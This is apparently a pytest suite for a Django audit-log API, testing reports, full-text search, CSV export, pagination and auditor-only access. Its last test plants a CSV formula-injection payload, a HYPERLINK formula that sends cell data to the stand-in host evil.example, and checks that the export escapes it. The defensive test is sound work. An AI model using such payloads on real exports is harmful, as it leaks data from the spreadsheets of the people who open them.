"""The three audit reports and full-text search through the API, on real PostgreSQL: a
record's lifetime, a user's impact, a time window; paginated, as CSV, for auditors only."""

import csv
import io
from datetime import timedelta

import pytest
from django.contrib.auth.models import Group
from django.db import connections
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from apps.audit.models import AuditEvent
from tests.audit.conftest import index_everything
from tests.support.approvals import settle
from tests.support.factories import client_for, make_user, reader


@pytest.fixture
def history(team, store, auditor, celery_worker):
    """What an auditor would look back on: on the ledger table, a read of row 3, a failed
    read, and a write to row 3 requested, reviewed, approved and executed; an unrelated
    read of row 4 by the approver."""
    analyst = client_for(team.analyst)
    source = team.source.pk
    read = analyst.post(
        "/api/v1/queries", {"datasource": source, "sql": "SELECT amount FROM ledger WHERE id = 3"}, format="json"
    )
    assert read.status_code == 200, read.content
    failed = analyst.post(
        "/api/v1/queries", {"datasource": source, "sql": "SELECT * FROM ledger_missing"}, format="json"
    )
    assert failed.status_code == 400
    request = team.request_write("UPDATE ledger SET amount = 99 WHERE id = 3", reason="refund for order three")
    assert team.review(request["id"], "approve", comment="checked with finance").status_code == 200
    assert settle(request["id"]).status == "succeeded"
    other = client_for(team.approver).post(
        "/api/v1/queries", {"datasource": source, "sql": "SELECT amount FROM ledger WHERE id = 4"}, format="json"
    )
    assert other.status_code == 200
    index_everything()
    return {"read": read.json()["id"], "request": request["id"], "source": source}


def _get(viewer, path: str, **params):
    return client_for(viewer).get(path, params)


def test_a_records_lifetime_lists_every_run_request_review_and_execution_in_order(team, history, auditor):
    response = _get(auditor, "/api/v1/audit/records", datasource=history["source"], table="ledger", key="3")
    assert response.status_code == 200, response.content
    events = response.json()["results"]
    actions = [event["action"] for event in events]
    assert actions == [
        "query.run",
        "query.finished",
        "approval.create",
        "approval.review",
        "approval.approved",
        "approval.execute",
        "approval.succeeded",
    ]
    times = [event["created_at"] for event in events]
    assert times == sorted(times)
    read = events[0]
    assert read["object_id"] == history["read"]
    assert read["sql"] == "SELECT amount FROM ledger WHERE id = 3"
    assert read["outcome"] == "succeeded"  # the run's end, not "(queued)"
    assert read["actor"] == team.analyst.username
    assert "ledger" in read["tables"]
    assert events[2]["text"] == "refund for order three"
    assert events[3]["actor"] == team.approver.username and events[3]["text"] == "checked with finance"
    assert events[-1]["outcome"] == "succeeded"
    # Row 4 was only read by the approver; the whole table shows that read too.
    row_4 = _get(auditor, "/api/v1/audit/records", datasource=history["source"], table="ledger", key="4")
    assert [event["actor"] for event in row_4.json()["results"]] == [team.approver.username] * 2
    table = _get(auditor, "/api/v1/audit/records", datasource=history["source"], table="LEDGER")
    assert len(table.json()["results"]) == 9  # ledger_missing is another table
    elsewhere = _get(auditor, "/api/v1/audit/records", datasource=history["source"] + 1000, table="ledger")
    assert elsewhere.json()["results"] == []


def test_a_users_impact_lists_what_they_did_with_outcomes(team, history, auditor):
    response = _get(auditor, "/api/v1/audit/events", user=team.analyst.username)
    assert response.status_code == 200
    events = response.json()["results"]
    assert {event["actor"] for event in events} == {team.analyst.username}
    failed = [event for event in events if event["action"] == "query.run" and event["outcome"] == "failed"]
    assert len(failed) == 1
    assert failed[0]["sql"] == "SELECT * FROM ledger_missing"
    assert "ledger_missing" in failed[0]["error"]
    request = next(event for event in events if event["action"] == "approval.create")
    assert request["outcome"] == "succeeded"  # how the request ended
    times = [event["created_at"] for event in events]
    assert times == sorted(times, reverse=True)


def test_a_time_window_filtered_by_source_and_action(team, history, auditor):
    now = timezone.now()
    window = {"after": (now - timedelta(minutes=10)).isoformat(), "before": (now + timedelta(minutes=1)).isoformat()}
    runs = _get(auditor, "/api/v1/audit/events", datasource=history["source"], action="query.run", **window)
    assert runs.status_code == 200
    assert len(runs.json()["results"]) == 3
    assert {event["action"] for event in runs.json()["results"]} == {"query.run"}
    past = {"after": (now - timedelta(days=2)).isoformat(), "before": (now - timedelta(days=1)).isoformat()}
    assert _get(auditor, "/api/v1/audit/events", **past).json()["results"] == []


def test_full_text_over_sql_reasons_and_comments(team, history, auditor):
    def found(text):
        response = _get(auditor, "/api/v1/audit/search", q=text)
        assert response.status_code == 200, response.content
        return [event["action"] for event in response.json()["results"]]

    assert found("checked finance") == ["approval.review"]
    assert found("refund three") == ["approval.create"]
    assert "query.run" in found("ledger_missing")
    assert found("amount = 99") == ["approval.create"]
    assert found("no such words anywhere") == []


def test_pages_and_csv_export(team, history, auditor):
    first = _get(auditor, "/api/v1/audit/events", user=team.analyst.username, page_size=2)
    body = first.json()
    assert len(body["results"]) == 2 and body["previous"] is None and "page=2" in body["next"]
    second = client_for(auditor).get(body["next"]).json()
    assert second["results"][0]["event_id"] != body["results"][0]["event_id"]
    everything = _get(auditor, "/api/v1/audit/events", user=team.analyst.username, page_size=500).json()["results"]

    exported = client_for(auditor).get(
        "/api/v1/audit/events", {"user": team.analyst.username, "format": "csv", "page_size": 2}
    )
    assert exported.status_code == 200
    assert exported["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(b"".join(exported.streaming_content).decode())))
    assert [int(row["event_id"]) for row in rows] == [event["event_id"] for event in everything]
    assert {row["actor"] for row in rows} == {team.analyst.username}


def test_analysts_see_only_their_own_events(team, history):
    own = _get(team.analyst, "/api/v1/audit/events", user=team.analyst.username)
    assert own.status_code == 200
    assert {event["actor"] for event in own.json()["results"]} == {team.analyst.username}
    for path, params in (
        ("/api/v1/audit/events", {"user": team.approver.username}),
        ("/api/v1/audit/events", {"user": team.approver.username, "format": "csv"}),
        ("/api/v1/audit/events", {}),
        ("/api/v1/audit/search", {"q": "ledger"}),
        ("/api/v1/audit/records", {"datasource": history["source"], "table": "ledger"}),
    ):
        response = _get(team.analyst, path, **params)
        assert response.status_code == 403, (path, response.content)
        assert response.json()["error"]["code"] == "audit_not_allowed"


def test_a_new_user_given_a_deleted_users_name_sees_none_of_their_events(store, team):
    """Usernames are free again once a user is deleted; the events under that name before
    the new user joined are someone else's."""
    leaver = reader("sam", team.source)
    read = client_for(leaver).post(
        "/api/v1/queries", {"datasource": team.source.pk, "sql": "SELECT 1", "wait": 10}, format="json"
    )
    assert read.status_code == 200, read.content
    leaver.delete()
    newcomer = make_user("sam", groups=(Group.objects.get(name="group-of-sam"),))
    client_for(newcomer).post("/api/v1/queries", {"datasource": team.source.pk, "sql": "SELECT 1"}, format="json")
    index_everything()
    for params in ({"user": "sam"}, {"user": "sam", "format": "csv"}, {"user": "sam", "after": "2000-01-01T00:00Z"}):
        response = _get(newcomer, "/api/v1/audit/events", **params)
        assert response.status_code == 200, response.content
        body = b"".join(response.streaming_content) if response.streaming else response.content
        assert read.json()["id"] not in body.decode()
    own = _get(newcomer, "/api/v1/audit/events", user="sam").json()["results"]
    assert own and all(event["created_at"] >= newcomer.date_joined.isoformat() for event in own)


def test_a_users_events_are_found_however_their_name_is_spelt_in_unicode(store, team, auditor):
    composed, decomposed = "gr\u00f6sse", "gro\u0308sse"
    user = reader(composed, team.source)
    assert (
        client_for(user)
        .post("/api/v1/queries", {"datasource": team.source.pk, "sql": "SELECT 2", "wait": 10}, format="json")
        .status_code
        == 200
    )
    Client(REMOTE_ADDR="10.0.0.9").post("/login/", {"username": decomposed, "password": "wrong"})
    index_everything()
    for spelling in (composed, decomposed):
        found = _get(auditor, "/api/v1/audit/events", user=spelling).json()["results"]
        assert {event["actor"] for event in found} == {composed}
        assert {"query.run", "auth.login_failed"} <= {event["action"] for event in found}
    own = _get(user, "/api/v1/audit/events", user=decomposed)
    assert own.status_code == 200
    assert "query.run" in {event["action"] for event in own.json()["results"]}


def test_admins_see_everything(team, history, admin_user):
    response = _get(admin_user, "/api/v1/audit/search", q="ledger")
    assert response.status_code == 200
    assert len(response.json()["results"]) >= 4


@pytest.mark.parametrize(
    ("path", "params", "field"),
    [
        ("/api/v1/audit/events", {"after": "yesterday"}, "after"),
        ("/api/v1/audit/events", {"page_size": "0"}, "page_size"),
        ("/api/v1/audit/events", {"after": "2026-01-02T00:00:00Z", "before": "2026-01-01T00:00:00Z"}, "before"),
        ("/api/v1/audit/records", {"table": "ledger"}, "datasource"),
        ("/api/v1/audit/search", {"q": "  ;;; "}, "q"),
    ],
)
def test_bad_parameters_are_a_400_naming_the_field(store, auditor, path, params, field):
    response = _get(auditor, path, **params)
    assert response.status_code == 400, response.content
    body = response.json()["error"]
    assert body["code"] == "invalid_request"
    assert field in body["details"]


def test_an_unreachable_store_is_a_503_never_the_metadata_database(store, auditor, settings):
    from apps.audit_search.search_store import reset_store

    settings.AUDIT_SEARCH_URL = "postgresql://postgres@127.0.0.1:1/nowhere?connect_timeout=1"
    reset_store()
    try:
        response = _get(auditor, "/api/v1/audit/search", q="ledger")
    finally:
        reset_store()
    assert response.status_code == 503
    assert response.json()["error"]["code"] == "audit_search_unavailable"


def test_a_search_makes_no_query_on_the_metadata_database(team, history, admin_user, auditor):
    """The store answers alone: an admin's search issues no query at all on the metadata
    database; an auditor's, only the one that looks up the auditor right."""
    with CaptureQueriesContext(connections["default"]) as admin_queries:
        response = _get(admin_user, "/api/v1/audit/search", q="ledger")
    assert response.status_code == 200 and response.json()["results"]
    assert admin_queries.captured_queries == []

    with CaptureQueriesContext(connections["default"]) as auditor_queries:
        for path, params in (
            ("/api/v1/audit/search", {"q": "ledger"}),
            ("/api/v1/audit/events", {"user": team.analyst.username}),
            ("/api/v1/audit/records", {"datasource": history["source"], "table": "ledger"}),
        ):
            assert _get(auditor, path, **params).json()["results"]
    statements = [query["sql"] for query in auditor_queries.captured_queries]
    assert len(statements) == 3, statements
    assert all("accounts_grouprights" in sql and "audit_" not in sql for sql in statements), statements


def test_a_new_auditor_needs_the_right(store, team):
    someone = make_user("newcomer")
    assert _get(someone, "/api/v1/audit/search", q="x").status_code == 403


FORMULA_LEADS = ["=", "+", "-", "@", "\t", "\r"]


@pytest.mark.parametrize("lead", FORMULA_LEADS, ids=["equals", "plus", "minus", "at", "tab", "carriage-return"])
def test_a_csv_cell_never_starts_a_spreadsheet_formula(store, auditor, lead):
    """Names users choose (a saved query's, shown as the event's object) reach an auditor's
    spreadsheet: a cell a spreadsheet would run as a formula is written as text. Found by
    an outside attack: a leading tab or carriage return, which spreadsheets skip before
    reading a formula (OWASP's list), was written as it was."""
    name = f'{lead}HYPERLINK("http://evil.example/?"&A1,"open")'
    AuditEvent.objects.create(actor_username="mallory", action="saved_query.create", object_repr=name)
    index_everything()
    exported = client_for(auditor).get("/api/v1/audit/events", {"user": "mallory", "format": "csv"})
    assert exported.status_code == 200
    rows = list(csv.DictReader(io.StringIO(b"".join(exported.streaming_content).decode(), newline="")))
    assert [row["object_repr"] for row in rows] == [f"'{name}"]
